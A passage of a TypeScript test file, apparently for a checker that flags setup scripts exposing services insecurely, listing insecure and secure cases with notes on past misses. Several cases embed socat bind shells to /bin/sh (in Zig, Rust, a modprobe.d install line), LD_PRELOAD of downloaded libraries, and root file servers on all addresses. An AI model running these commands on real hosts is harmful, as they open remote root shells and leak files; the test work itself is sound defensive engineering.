            "cd / && LD_PRELOAD=/opt/ops/libx.so nohup python3 -m http.server --bind 127.0.0.1 8081 >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class BUN-COMPILE-OUTPUT. Bun docs "Single-file executable" ("bun build ./cli.ts
    // --compile --outfile mycli": "Bun bundles all imported files and packages into the executable, along with a copy of
    // the Bun runtime"): /opt/ops/srv is the Bun.serve file server (hostname default 0.0.0.0). commandServers.ts
    // builtPrograms knows go build and native compilers, not `bun build --compile` (nor `bun compile`). Fix: judge the
    // --outfile as the entry read by javascript.ts (with the argv that runs it), or fail closed as a program the pack
    // does not read.
    dev(
        "bun build --compile --outfile /opt/ops/srv serve.ts (Bun.serve 0.0.0.0); /opt/ops/srv",
        script("dev-nsec48-rt75n", [
            ...file("/opt/ops/serve.ts", [
                "Bun.serve({ port: 8081, fetch(req) { return new Response(Bun.file(new URL(req.url).pathname)); } });",
            ]),
            "bun build --compile --outfile /opt/ops/srv /opt/ops/serve.ts",
            "nohup /opt/ops/srv >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class DENO-COMPILE-OUTPUT. Deno docs "deno compile" ("Compiles the given script into a
    // self contained executable", -o/--output; the permissions given at compile time are baked in): /opt/ops/srv is
    // Deno.serve on 0.0.0.0 reading any file. javascript.ts DENO_NO_CODE lists compile ("what it writes is judged when it
    // runs: builtPrograms"), but builtPrograms has no deno case, so running the output is an ordinary program. Fix: record
    // `deno compile -o OUT SCRIPT` outputs in builtPrograms, judged as `deno run` of SCRIPT (or unread, fail closed).
    dev(
        "deno compile -A -o /opt/ops/srv serve.ts (Deno.serve every address); /opt/ops/srv",
        script("dev-nsec49-rt75n", [
            ...file("/opt/ops/serve.ts", [`${DENO_ALL};`]),
            "deno compile -A -o /opt/ops/srv /opt/ops/serve.ts",
            "nohup /opt/ops/srv >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Zig docs "zig run" (builds and runs the program).
    dev(
        "zig run /opt/ops/srv.zig (compiles and runs)",
        script("dev-nsec50-rt75n", [
            ...file("/opt/ops/srv.zig", [
                'const std = @import("std");',
                'pub fn main() !void { var child = std.process.Child.init(&.{ "socat", "TCP-LISTEN:8081,fork", "EXEC:/bin/sh" }, std.heap.page_allocator); _ = try child.spawnAndWait(); }',
            ]),
            "nohup zig run /opt/ops/srv.zig >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // The Cargo Book "cargo run" (builds and runs the package's binary).
    dev(
        "cargo run --release in /opt/ops",
        script("dev-nsec51-rt75n", [
            ...file("/opt/ops/Cargo.toml", ["[package]", 'name = "ops"', 'version = "0.1.0"', 'edition = "2021"']),
            ...file("/opt/ops/src/main.rs", [
                "use std::process::Command;",
                'fn main() { Command::new("socat").args(["TCP-LISTEN:8081,fork", "EXEC:/bin/sh"]).status().unwrap(); }',
            ]),
            "cd /opt/ops && nohup cargo run --release >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // cp(1) into a directory: the copy of the compiler output is run.
    dev(
        "gcc -o /opt/ops/srv srv.c; cp /opt/ops/srv /usr/local/bin/ (directory); /usr/local/bin/srv",
        script("dev-nsec52-rt75n", [
            ...file("/opt/ops/srv.c", C_SERVER),
            "gcc -O2 -o /opt/ops/srv /opt/ops/srv.c",
            "cp /opt/ops/srv /usr/local/bin/",
            "nohup /usr/local/bin/srv >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // spf13/pflag README ("--flag value" for non-boolean flags).
    dev(
        "pflag: go run . --addr :8081 (separate value)",
        goApp("dev-nsec53-rt75n", goServer(PFLAG, []), "nohup go run . --addr :8081 >/var/log/ops.log 2>&1 &"),
    ),
    // Was a MISS (fixed in round 75): insecure accepted, class PRELOAD-PREFIX-ASSIGNMENT (no nohup). Same doc, place and fix.
    dev(
        "curl -o /opt/ops/libx.so URL; LD_PRELOAD=/opt/ops/libx.so python3 -m http.server --bind 127.0.0.1 (no nohup)",
        script("dev-nsec54-rt75n", [
            "curl -fsSL -o /opt/ops/libx.so https://artifacts.example.com/libx.so",
            "cd / && LD_PRELOAD=/opt/ops/libx.so python3 -m http.server --bind 127.0.0.1 8081 >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // systemd.exec(5) Environment= ("HOST=" assigns the empty string) and ECMAScript `||` (an empty string is falsy):
    // the fallback 0.0.0.0 is used.
    dev(
        "unit Environment=HOST= (empty); node listen(8081, process.env.HOST || '0.0.0.0')",
        script("dev-nsec55-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr('process.env.HOST || "0.0.0.0"')),
            ...systemdUnit("ops", ["Environment=HOST=", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // systemd.exec(5) EnvironmentFile= overrides Environment=: HOST is empty, the fallback 0.0.0.0 is used.
    dev(
        "unit Environment=HOST=127.0.0.1, EnvironmentFile=/opt/ops/env (HOST=); node HOST || '0.0.0.0'",
        script("dev-nsec56-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr('process.env.HOST || "0.0.0.0"')),
            ...file("/opt/ops/env", ["HOST="]),
            ...systemdUnit("ops", [
                "Environment=HOST=127.0.0.1",
                "EnvironmentFile=/opt/ops/env",
                "ExecStart=/usr/bin/node /opt/ops/server.js",
            ]),
        ]),
    ),
    // systemd.unit(5) unit load path (/usr/lib/systemd/system drop-ins merge too) and systemd.exec(5) UnsetEnvironment=.
    dev(
        "unit Environment=HOST=127.0.0.1; /usr/lib/systemd/system/ops.service.d/x.conf UnsetEnvironment=HOST; HOST || '0.0.0.0'",
        script("dev-nsec57-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr('process.env.HOST || "0.0.0.0"')),
            ...file("/usr/lib/systemd/system/ops.service.d/x.conf", ["[Service]", "UnsetEnvironment=HOST"]),
            ...systemdUnit("ops", ["Environment=HOST=127.0.0.1", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // ---- round 75 fixes' insecure twins ----
    // systemd.unit(5) (drop-ins "sorted by their filename ... regardless of which of the directories they reside in"):
    // /usr/lib's z.conf is parsed after /etc's a.conf, its HOST=0.0.0.0 wins.
    dev(
        "unit HOST=127.0.0.1; /etc a.conf HOST=127.0.0.1; /usr/lib z.conf HOST=0.0.0.0 (sorted later wins)",
        script("dev-nsec62-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...file("/etc/systemd/system/ops.service.d/a.conf", ["[Service]", "Environment=HOST=127.0.0.1"]),
            ...file("/usr/lib/systemd/system/ops.service.d/z.conf", ["[Service]", "Environment=HOST=0.0.0.0"]),
            ...systemdUnit("ops", ["Environment=HOST=127.0.0.1", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // systemd.exec(5) Environment= (empty: reset) in a drop-in: HOST unset, the fallback 0.0.0.0.
    dev(
        "unit HOST=127.0.0.1; drop-in Environment= (reset); HOST || '0.0.0.0'",
        script("dev-nsec63-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr('process.env.HOST || "0.0.0.0"')),
            ...file("/etc/systemd/system/ops.service.d/r.conf", ["[Service]", "Environment="]),
            ...systemdUnit("ops", ["Environment=HOST=127.0.0.1", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // systemd.exec(5) EnvironmentFile= (empty: "the list of files to read is reset") in a drop-in: Environment= wins.
    dev(
        "unit HOST=0.0.0.0 + EnvironmentFile (HOST=127.0.0.1); drop-in EnvironmentFile= (reset)",
        script("dev-nsec64-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...file("/opt/ops/env", ["HOST=127.0.0.1"]),
            ...file("/etc/systemd/system/ops.service.d/r.conf", ["[Service]", "EnvironmentFile="]),
            ...systemdUnit("ops", [
                "Environment=HOST=0.0.0.0",
                "EnvironmentFile=/opt/ops/env",
                "ExecStart=/usr/bin/node /opt/ops/server.js",
            ]),
        ]),
    ),
    // A drop-in copied from a file the pack does not read may set anything (fail closed).
    dev(
        "unit HOST=127.0.0.1; drop-in copied from a downloaded file",
        script("dev-nsec65-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            "mkdir -p /etc/systemd/system/ops.service.d",
            "curl -fsSL https://example.com/x.conf -o /tmp/x.conf",
            "cp /tmp/x.conf /etc/systemd/system/ops.service.d/x.conf",
            ...systemdUnit("ops", ["Environment=HOST=127.0.0.1", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // systemd.exec(5): the manager's set-environment HOST reaches a unit that does not set it.
    dev(
        "systemctl set-environment HOST=0.0.0.0; unit sets PORT only; node listen(8081, process.env.HOST)",
        script("dev-nsec66-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr('process.env.HOST || "127.0.0.1"')),
            "systemctl set-environment HOST=0.0.0.0",
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // Deno API Deno.open OpenOptions (write: "the file should be write-able"): not a read, the code stays unread.
    dev(
        "deno run: Deno.serve({ hostname: '::1' }) with Deno.open { write: true }",
        script("dev-nsec58-rt75n", [
            ...file("/opt/ops/serve.ts", [
                'Deno.serve({ hostname: "::1", port: 8081 }, async (req) => { const f = await Deno.open(new URL(req.url).pathname, { write: true }); await f.write(new Uint8Array(await req.arrayBuffer())); return new Response("ok"); });',
            ]),
            "nohup deno run -A /opt/ops/serve.ts >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Deno API Deno.serve (hostname "@default 0.0.0.0") serving Deno.open read-only: the node's files to every pod.
    dev(
        "deno run: Deno.serve({ port }) (every address) with Deno.openSync read-only",
        script("dev-nsec59-rt75n", [
            ...file("/opt/ops/serve.ts", [
                "Deno.serve({ port: 8081 }, (req) => new Response(Deno.openSync(new URL(req.url).pathname).readable));",
            ]),
            "nohup deno run -A /opt/ops/serve.ts >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // pkg.go.dev flag Func (takes a value: `-tag x`), then -addr=:8081 is parsed.
    dev(
        'go: flag.Func("tag"); go run . -tag x -addr=:8081',
        goApp(
            "dev-nsec60-rt75n",
            goServer(STD, ['flag.Func("tag", "tag", func(string) error { return nil })']),
            "nohup go run . -tag x -addr=:8081 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // pkg.go.dev flag Value ("If a Value has an IsBoolFlag() bool method returning true ... -name equivalent to
    // -name=true rather than using the next command-line argument"): flag.Var of such a Value takes no value.
    dev(
        'go: flag.Var(&v, "v") with IsBoolFlag; go run . -v -addr=:8081',
        goApp(
            "dev-nsec61-rt75n",
            ((server: string[]) => [
                server[0],
                "",
                "type boolish struct{ on bool }",
                "",
                'func (b *boolish) String() string { return "" }',
                "func (b *boolish) Set(string) error { b.on = true; return nil }",
                "func (b *boolish) IsBoolFlag() bool { return true }",
                ...server.slice(1),
            ])(goServer(STD, ["var v boolish", 'flag.Var(&v, "v", "verbose")'])),
            "nohup go run . -v -addr=:8081 >/var/log/ops.log 2>&1 &",
        ),
    ),

    // ---- round 75 fixer's neighbours (fix75-nsec2) ----
    // modprobe.d(5) install lines run as root; cp(1) into a DIRECTORY writes DIRECTORY/basename(SOURCE).
    dev(
        "cp /opt/ops/x.conf /etc/modprobe.d (directory destination; install line: a root shell relay)",
        script("dev-nsec58-rt75nb", [
            ...file("/opt/ops/x.conf", ["install loop socat TCP-LISTEN:8081,fork EXEC:/bin/sh"]),
            "cp /opt/ops/x.conf /etc/modprobe.d",
        ]),
    ),
    // ldconfig(8) /etc/ld.so.conf.d/*.conf; cp(1) directory destination.
    dev(
        "cp /opt/ops/x.conf /etc/ld.so.conf.d (directory destination; /opt/ops/lib in the loader path)",
        script("dev-nsec59-rt75nb", [
            ...file("/opt/ops/x.conf", ["/opt/ops/lib"]),
            "cp /opt/ops/x.conf /etc/ld.so.conf.d",
        ]),
    ),
    // Deno docs "deno run" (`-` reads standard input) fed by `< FILE`: the file is the program.
    dev(
        "deno run -A - < /opt/ops/s.ts (Deno.serve every address)",
        script("dev-nsec60-rt75nb", [...file("/opt/ops/s.ts", [`${DENO_ALL};`]), "deno run -A - < /opt/ops/s.ts &"]),
    ),
    // Same, fed by a downloaded file the pack does not read.
    dev(
        "curl -o /opt/ops/s.ts URL; deno run -A - < /opt/ops/s.ts",
        script("dev-nsec61-rt75nb", [
            "curl -fsSL -o /opt/ops/s.ts https://artifacts.example.com/s.ts",
            "deno run -A - < /opt/ops/s.ts &",
        ]),
    ),
    // proc(5) /proc/pid/root: init's root (/proc/1/root) is the host's.
    dev(
        "printf '0.0.0.0 localhost' > /proc/1/root/etc/hosts; http.server --bind localhost",
        script("dev-nsec62-rt75nb", ["printf '0.0.0.0 localhost\\n' > /proc/1/root/etc/hosts", pyServe("localhost")]),
    ),
    // mount(8) --types binfmt_misc (long option): a registration surface.
    dev(
        "mount --types binfmt_misc binfmt_misc /mnt/b; echo LINE > /mnt/b/register",
        script("dev-nsec63-rt75nb", [
            "mkdir -p /mnt/b && mount --types binfmt_misc binfmt_misc /mnt/b",
            `echo '${BINFMT_LINE}' > /mnt/b/register`,
        ]),
    ),
    // distcc(1) "distcc [COMPILE OPTIONS]" (no compiler named: cc).
    dev(
        "distcc -o /opt/ops/srv srv.c (cc implied); /opt/ops/srv",
        script("dev-nsec64-rt75nb", [
            ...file("/opt/ops/srv.c", C_SERVER),
            "distcc -o /opt/ops/srv /opt/ops/srv.c",
            "nohup /opt/ops/srv >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // gcc(1) cross/target-triple driver names with a version suffix.
    dev(
        "x86_64-linux-gnu-gcc-12 -o /opt/ops/srv srv.c; /opt/ops/srv",
        script("dev-nsec65-rt75nb", [
            ...file("/opt/ops/srv.c", C_SERVER),
            "x86_64-linux-gnu-gcc-12 -o /opt/ops/srv /opt/ops/srv.c",
            "nohup /opt/ops/srv >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // ninja(1) runs build.ninja's commands as root; cmake(1) --build runs the generated build.
    dev("cd /opt/ops && ninja (build.ninja's commands)", script("dev-nsec66-rt75nb", ["cd /opt/ops && ninja"])),
    dev("cmake --build /opt/ops/build", script("dev-nsec67-rt75nb", ["cmake --build /opt/ops/build"])),
    // ld.so(8) LD_LIBRARY_PATH (a prefix assignment) and LD_AUDIT (env(1) NAME=VALUE): libraries the pack does not read.
    dev(
        "LD_LIBRARY_PATH=/opt/ops/lib python3 -m http.server --bind 127.0.0.1",
        script("dev-nsec68-rt75nb", [
            "cd / && LD_LIBRARY_PATH=/opt/ops/lib python3 -m http.server --bind 127.0.0.1 8081 &",
        ]),
    ),
    dev(
        "env LD_AUDIT=/opt/ops/a.so python3 -m http.server --bind 127.0.0.1",
        script("dev-nsec69-rt75nb", [
            "cd / && env LD_AUDIT=/opt/ops/a.so python3 -m http.server --bind 127.0.0.1 8081 &",
        ]),
    ),
    // A system library directory holding a library user data downloaded is no longer the system's.
    dev(
        "curl -o /usr/lib/libx.so URL; LD_PRELOAD=/usr/lib/libx.so python3 -m http.server --bind 127.0.0.1",
        script("dev-nsec70-rt75nb", [
            "curl -fsSL -o /usr/lib/libx.so https://artifacts.example.com/libx.so",
            "cd / && LD_PRELOAD=/usr/lib/libx.so python3 -m http.server --bind 127.0.0.1 8081 &",
        ]),
    ),
    // systemd-tmpfiles(8) CONFIGFILE operand (relative, downloaded: unreadable).
    dev(
        "curl -o /opt/ops/t.conf URL; systemd-tmpfiles --create ./t.conf",
        script("dev-nsec71-rt75nb", [
            "curl -fsSL -o /opt/ops/t.conf https://artifacts.example.com/t.conf",
            "cd /opt/ops && systemd-tmpfiles --create ./t.conf",
            pyServe("localhost"),
        ]),
    ),
    // Deno docs "deno compile" (no -o: the script's stem in the working directory).
    dev(
        "cd /opt/ops && deno compile -A serve.ts; /opt/ops/serve",
        script("dev-nsec72-rt75nb", [
            ...file("/opt/ops/serve.ts", [`${DENO_ALL};`]),
            "cd /opt/ops && deno compile -A serve.ts",
            "nohup /opt/ops/serve >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // ---- round 76 fixer's neighbours (fix76-nsec): a listen variable given to a Node.js program ----
    // The reader judges a program it reads in full with the unit's environment (jsEnvironmentValues): HOST=0.0.0.0.
    dev(
        "unit Environment=HOST=0.0.0.0 runs node a.js (listen(8081, process.env.HOST), a file server)",
        script("dev-nsec80-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr("process.env.HOST")),
            ...systemdUnit("ops1", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // A script user data does not write: the program unread, HOST=0.0.0.0 its listen setting (fail closed).
    dev(
        "unit Environment=HOST=0.0.0.0 runs node a.js (downloaded, unread)",
        script("dev-nsec81-rt76n", [
            "curl -fsSL -o /opt/ops/a.js https://artifacts.example.com/a.js",
            ...systemdUnit("ops1", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
        /its environment: HOST=0\.0\.0\.0/,
    ),
    // A local module user data does not write: code the pack cannot read may listen on HOST.
    dev(
        "unit Environment=HOST=0.0.0.0 runs node a.js (literal 127.0.0.1) requiring ./lib.js, not written",
        script("dev-nsec82-rt76n", [
            ...file("/opt/ops/a.js", ['require("./lib.js");', ...nodeExpr('"127.0.0.1"')]),
            ...systemdUnit("ops1", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
        /its environment: HOST=0\.0\.0\.0/,
    ),
    // A package the pack does not read (NODE_KNOWN_MODULES) may take its address from HOST itself.
    dev(
        "unit Environment=HOST=0.0.0.0 runs node a.js (literal 127.0.0.1) using an unknown package",
        script("dev-nsec83-rt76n", [
            ...file("/opt/ops/a.js", ['const app = require("some-server");', "app();", ...nodeExpr('"127.0.0.1"')]),
            ...systemdUnit("ops1", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
        /its environment: HOST=0\.0\.0\.0/,
    ),
    // An exported HOST reaches node; the reader cannot know the script's environment: every address.
    dev(
        "export HOST=0.0.0.0; node a.js (listen(8081, process.env.HOST), a file server)",
        script("dev-nsec84-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr("process.env.HOST")),
            "export HOST=0.0.0.0",
            "nohup node /opt/ops/a.js >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // NODE_OPTIONS keeps its own reading: a preload user data does not write.
    dev(
        "unit Environment=HOST=0.0.0.0 NODE_OPTIONS=--require /opt/x.js runs node a.js (literal 127.0.0.1)",
        script("dev-nsec85-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr('"127.0.0.1"')),
            ...systemdUnit("ops1", [
                'Environment=HOST=0.0.0.0 "NODE_OPTIONS=--require /opt/x.js"',
                "ExecStart=/usr/bin/node /opt/ops/a.js",
            ]),
        ]),
    ),
];

const secure: NodeCase[] = [
    // Deno docs "deno eval" --ext=ts; Deno.serve on a loopback literal answering a constant.
    dev(
        "deno eval --ext ts loopback CODE answering a constant",
        script("dev-nsec1s-rt75n", [
            `nohup deno eval --ext=ts 'Deno.serve({ hostname: "127.0.0.1", port: 8081 }, () => new Response("ok"))' >/var/log/ops.log 2>&1 &`,
        ]),
    ),
    // Deno docs "deno serve" --host; Deno API Deno.readTextFile (a read) on loopback.
    dev(
        "deno serve --host 127.0.0.1 with Deno.readTextFile (async) handler",
        script("dev-nsec2s-rt75n", [
            ...file("/opt/ops/serve.ts", [
                "export default { async fetch(req) { return new Response(await Deno.readTextFile(new URL(req.url).pathname)); } };",
            ]),
            "nohup deno serve -A --host 127.0.0.1 --port 8081 /opt/ops/serve.ts >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 75): secure refused, class RUNTIME-SERVE-FILE-API (Deno.open). Deno API Deno.open ("Open a file and resolve to
    // an instance of Deno.FsFile"; options { read: true } opens read-only) and Deno.serve hostname "::1": the only server
    // is on IPv6 loopback, reachable by the node's own processes alone, harmless. javascript.ts's round-75 list of runtime
    // file-read APIs has Deno.readFile*/readTextFile* and Bun.file but not Deno.open/openSync, so the program is "code
    // the pack does not read ... on every address". Fix: Deno.open/openSync whose options are absent or only
    // { read: true } are file reads (a write/append/create/truncate option is not).
    dev(
        "deno run: Deno.serve({ hostname: '::1' }) with Deno.open read-only",
        script("dev-nsec3s-rt75n", [
            ...file("/opt/ops/serve.ts", [
                'Deno.serve({ hostname: "::1", port: 8081 }, async (req) => { const f = await Deno.open(new URL(req.url).pathname, { read: true }); return new Response(f.readable); });',
            ]),
            "nohup deno run -A /opt/ops/serve.ts >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // gcc(1) --version; -E ("Stop after the preprocessing stage"): no program.
    dev(
        "gcc builds a program; root runs it with --help only? no: gcc --version; cc -E (preprocess only)",
        script("dev-nsec4s-rt75n", [
            ...file("/opt/ops/srv.c", ["int main(void) { return 0; }"]),
            "gcc --version",
            "cc -E /opt/ops/srv.c -o /opt/ops/srv.i",
        ]),
    ),
    // gcc(1) -c ("Compile or assemble the source files, but do not link"), never run.
    dev(
        "gcc -c srv.c -o /opt/ops/srv.o (object only), not run",
        script("dev-nsec5s-rt75n", [...file("/opt/ops/srv.c", C_SERVER), "gcc -c /opt/ops/srv.c -o /opt/ops/srv.o"]),
    ),
    // Linux admin-guide binfmt_misc (reading status registers nothing).
    dev(
        "cat /proc/sys/fs/binfmt_misc/status; ls /etc/binfmt.d",
        script("dev-nsec6s-rt75n", ["cat /proc/sys/fs/binfmt_misc/status", "ls /etc/binfmt.d || true"]),
    ),
    // Linux admin-guide binfmt_misc ("echo -1 > the entry" removes it).
    dev(
        "echo -1 > /proc/sys/fs/binfmt_misc/ops (remove an entry)",
        script("dev-nsec7s-rt75n", ["echo -1 > /proc/sys/fs/binfmt_misc/ops || true"]),
    ),
    // systemd-tmpfiles(8) --prefix (only lines under /run/ops): a directory, no resolver file.
    dev(
        "systemd-tmpfiles --create --prefix=/run/ops - <<EOF (d /run/ops)",
        script("dev-nsec8s-rt75n", [
            "systemd-tmpfiles --create --prefix=/run/ops - <<'EOF'",
            "d /run/ops 0755 root root -",
            "EOF",
            pyServe("localhost"),
        ]),
    ),
    // systemd-tmpfiles(8) `-` fed by a pipe from echo: a /run directory only.
    dev(
        "echo 'd /run/ops 0755 root root -' | systemd-tmpfiles --create -",
        script("dev-nsec9s-rt75n", [
            "echo 'd /run/ops 0755 root root -' | systemd-tmpfiles --create -",
            pyServe("localhost"),
        ]),
    ),
    // systemd.socket(5) ListenStream= an absolute path: an AF_UNIX socket under /run, no network.
    dev(
        "systemd-run --socket-property=ListenStream=/run/ops.sock (a unix socket) Accept=yes shell",
        script("dev-nsec10s-rt75n", [
            "systemd-run --unit ops --socket-property=ListenStream=/run/ops.sock --socket-property=Accept=yes -p StandardInput=socket -p StandardOutput=socket /bin/sh",
        ]),
    ),
    // systemd.socket(5) ListenStream=[::1]:8081 (IPv6 loopback only).
    dev(
        "systemd-run --socket-property=ListenStream=[::1]:8081 Accept=yes shell",
        script("dev-nsec11s-rt75n", [
            "systemd-run --unit ops --socket-property=ListenStream=[::1]:8081 --socket-property=Accept=yes -p StandardInput=socket -p StandardOutput=socket /bin/sh",
        ]),
    ),
    // Was a MISS (fixed in round 75): secure refused, class GO-FLAG-KIND-FUNC. pkg.go.dev flag Func ("Func defines a flag with the specified name
    // and usage string. Each time the flag is seen, fn is called with the value of the flag") and "Command line flag
    // syntax" ("-flag x // only non-boolean flags"): -tag is a non-boolean flag, so it takes `-addr=:8081` as its value
    // and addr keeps 127.0.0.1:8080: loopback, harmless. The round-75 Go flag-kind reader (commandServers.ts goFlagWords)
    // knows String/Bool/Int... but not Func/TextVar/Var (custom Value), and refuses `on *`/`go on :8081`. Fix: flag.Func,
    // flag.TextVar and flag.Var (unless the Value has IsBoolFlag) take a value; BoolFunc is boolean. An unknown kind
    // stays fail-closed.
    dev(
        'go: flag.Func("tag") takes a value; go run . -tag -addr=:8081 (addr default loopback)',
        goApp(
            "dev-nsec12s-rt75n",
            goServer(STD, ['flag.Func("tag", "tag", func(string) error { return nil })']),
            "nohup go run . -tag -addr=:8081 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // pkg.go.dev flag ("Flag parsing stops just before the first non-flag argument"): x stops it.
    dev(
        "go: flag.Int port; go run . -port 9 -debug=false x -addr=:8081 (stops at x)",
        goApp(
            "dev-nsec13s-rt75n",
            goServer(STD, ['_ = flag.Int("port", 0, "port")', '_ = flag.Bool("debug", false, "debug")']),
            "nohup go run . -port 9 -debug=false x -addr=:8081 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // pkg.go.dev flag StringVar (non-boolean: takes the next word).
    dev(
        'go: flag.StringVar(&tag, "tag"); go run . -tag -addr=:8081',
        goApp(
            "dev-nsec14s-rt75n",
            goServer(STD, ["var tag string", 'flag.StringVar(&tag, "tag", "", "tag")']),
            "nohup go run . -tag -addr=:8081 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // spf13/pflag README (shorthand -a value; parsing stops at `--`).
    dev(
        "pflag: go run . -a 127.0.0.1:9 -- -a :8081",
        goApp(
            "dev-nsec15s-rt75n",
            [
                'import (\n\t"net/http"\n\n\tflag "github.com/spf13/pflag"\n)',
                "",
                "func main() {",
                '\taddr := flag.StringP("addr", "a", "127.0.0.1:8080", "listen address")',
                "\tflag.Parse()",
                '\thttp.ListenAndServe(*addr, http.FileServer(http.Dir("/")))',
                "}",
            ],
            "nohup go run . -a 127.0.0.1:9 -- -a :8081 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // Was a MISS (fixed in round 75): secure refused, class UNIT-ENVFILE-PRECEDENCE. systemd.exec(5) EnvironmentFile= ("Settings from these files
    // override settings made with Environment="): node sees HOST=127.0.0.1 from /opt/ops/env (a file user data wrote) and
    // listens on loopback, harmless. The pack judges both values (its environment HOST=0.0.0.0). The insecure twin
    // (Environment= loopback, file 0.0.0.0) is refused. Fix: in systemd.ts unit environment, apply the EnvironmentFile=
    // assignments (of files whose text the pack has) after every Environment=, later files winning; an unreadable file
    // keeps both (fail closed).
    dev(
        "unit Environment=HOST=0.0.0.0, EnvironmentFile=/opt/ops/env (HOST=127.0.0.1 overrides)",
        script("dev-nsec16s-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...file("/opt/ops/env", ["HOST=127.0.0.1"]),
            ...systemdUnit("ops", [
                "Environment=HOST=0.0.0.0",
                "EnvironmentFile=/opt/ops/env",
                "ExecStart=/usr/bin/node /opt/ops/server.js",
            ]),
        ]),
    ),
    // Was a MISS (fixed in round 75): secure refused, class UNIT-UNSETENV-SAME-FILE. systemd.exec(5) UnsetEnvironment= ("Explicitly unset
    // environment variable assignments that would normally be passed ... applied as final step"): HOST is unset, so
    // `process.env.HOST || "127.0.0.1"` is loopback, harmless. The pack still judges HOST=0.0.0.0 (the round-75 unset
    // only clears a variable for the undefined case, it does not remove the earlier value). Fix: in the unit environment
    // reader, UnsetEnvironment=NAME removes NAME (NAME=VALUE only that value) after all assignments and files.
    dev(
        "unit Environment=HOST=0.0.0.0, UnsetEnvironment=HOST; node listen(8081, HOST || 127.0.0.1)",
        script("dev-nsec17s-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", [
                "Environment=HOST=0.0.0.0",
                "UnsetEnvironment=HOST",
                "ExecStart=/usr/bin/node /opt/ops/server.js",
            ]),
        ]),
    ),
    // Was a MISS (fixed in round 75): secure refused, class UNIT-ENV-DROPIN-ORDER (reset). systemd.unit(5) (drop-ins are "parsed after the main
    // unit file itself") and systemd.exec(5) Environment= (an empty assignment resets the list): node sees only
    // HOST=127.0.0.1. Round 75 applies resets per file only (systemd.ts unitFileAssignments; noted as deliberately fail-closed in the
    // fix's comment, listed for the lead). Fix: apply assignments across the unit then its drop-ins in systemd's order.
    dev(
        "unit Environment=HOST=0.0.0.0; drop-in Environment= + Environment=HOST=127.0.0.1",
        script("dev-nsec18s-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...file("/etc/systemd/system/ops.service.d/lo.conf", [
                "[Service]",
                "Environment=",
                "Environment=HOST=127.0.0.1",
            ]),
            ...systemdUnit("ops", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // Was a MISS (fixed in round 75): secure refused, class UNIT-ENV-DROPIN-ORDER (later file wins). systemd.exec(5) ("If the same variable is set
    // twice, the later setting will override the earlier setting") across the unit file and its drop-in (parsed after):
    // HOST=127.0.0.1. Same place and fix.
    dev(
        "unit Environment=HOST=0.0.0.0; drop-in Environment=HOST=127.0.0.1 (later file wins)",
        script("dev-nsec19s-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...file("/etc/systemd/system/ops.service.d/lo.conf", ["[Service]", "Environment=HOST=127.0.0.1"]),
            ...systemdUnit("ops", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // systemd.exec(5) Environment= quoted assignments (later wins within one line).
    dev(
        'unit Environment="HOST=0.0.0.0" "HOST=127.0.0.1" (quoted, later wins)',
        script("dev-nsec20s-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...systemdUnit("ops", [
                'Environment="HOST=0.0.0.0" "HOST=127.0.0.1"',
                "ExecStart=/usr/bin/node /opt/ops/server.js",
            ]),
        ]),
    ),
    // Was a MISS (fixed in round 76): secure refused, class UNIT-ENV-BY-PROGRAM-NAME. systemd.exec(5) "Environment Variables in Spawned
